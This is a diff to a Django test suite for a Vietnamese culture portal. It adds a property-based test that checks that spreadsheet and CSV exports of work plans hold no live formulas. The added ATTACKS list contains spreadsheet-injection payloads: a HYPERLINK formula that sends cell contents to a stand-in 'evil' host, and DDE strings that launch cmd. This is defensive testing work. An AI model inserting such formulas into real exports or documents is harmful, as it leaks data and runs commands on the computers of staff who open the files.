@@ -6,6 +6,8 @@ never a server error, and never a half-saved object: a refused form leaves every
 portal as it was, an accepted one saves the object whole, its text normalised.
 """
 
+import csv
+import io
 import unicodedata
 
 import pytest
@@ -13,6 +15,7 @@ from django.apps import apps
 from django.urls import reverse
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from openpyxl import load_workbook
 
 from culture_portal.models import SiteIdentity
 from culture_portal.text import _CONTROL
@@ -47,10 +50,20 @@ ATTACKS = [
     "-1",
     "1e309",
     "99999999999999999999",
+    # Formulas, for the exports that leaders open in a spreadsheet.
+    '=HYPERLINK("http://evil/?x="&A1,"Xem")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "- Tổ chức chiếu phim lưu động",
 ]
 TEXT = st.one_of(
     st.text(st.characters(blacklist_categories=("Cs",)), max_size=300),
     st.sampled_from(ATTACKS),
+)
+FORMULA_LIKE = st.builds(
+    lambda start, rest: start + rest, st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), TEXT
 )
 DATES = st.one_of(
     st.sampled_from(
@@ -328,6 +341,55 @@ def test_unit_importer_reports_bad_rows_and_keeps_the_good(rows, header):
     after = row_counts()["institutions.AdministrativeUnit"]
     assert after - before == report.created
     assert all(isinstance(error, str) and error for error in report.errors)
+
+
+# Exports --------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def exported_plan():
+    plan = WorkPlanFactory(year=2026, institution__slug="trung-tam-xuat")
+    return CommitmentFactory(plan=plan, target=12)
+
+
+@settings(
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    description=st.one_of(TEXT, FORMULA_LIKE),
+    unit=st.one_of(TEXT, FORMULA_LIKE),
+    category=st.one_of(TEXT, FORMULA_LIKE),
+)
+def test_exports_write_any_text_as_text_and_numbers_as_numbers(
+    client, exported_plan, description, unit, category
+):
+    """Whatever staff typed, no cell of a plan's export is a formula: XLSX cells hold the
+    stored text as text, CSV cells the stored text with a quote before a formula's start."""
+    commitment = exported_plan
+    commitment.description = description or "Mô tả"
+    commitment.unit = unit[:50]
+    commitment.save()
+    commitment.category.name = category[:150] or "Nhóm"
+    commitment.category.save()
+    commitment.refresh_from_db()
+    stored = [commitment.category.name, commitment.description, commitment.unit]
+    plan = commitment.plan
+    url = reverse("work_plans:plan-export", args=[plan.year, plan.institution.slug, "xlsx"])
+    sheet = load_workbook(io.BytesIO(client.get(url).content)).active
+    cells = next(sheet.iter_rows(min_row=2, max_row=2))
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    # XML reads a carriage return as a line feed: the same line break in a spreadsheet.
+    assert [cells[0].value, cells[1].value, cells[3].value] == [
+        value.replace("\r\n", "\n").replace("\r", "\n") or None for value in stored
+    ]
+    assert cells[2].value == 12 and cells[2].data_type == "n"
+
+    text = client.get(url.replace(".xlsx", ".csv")).content.decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(text)))[1]
+    for cell, value in zip([row[0], row[1], row[3]], stored, strict=True):
+        formula = value.startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert cell == ("'" + value if formula else value)
+    assert row[2] == "12.0"
 
 
 @pytest.mark.parametrize(
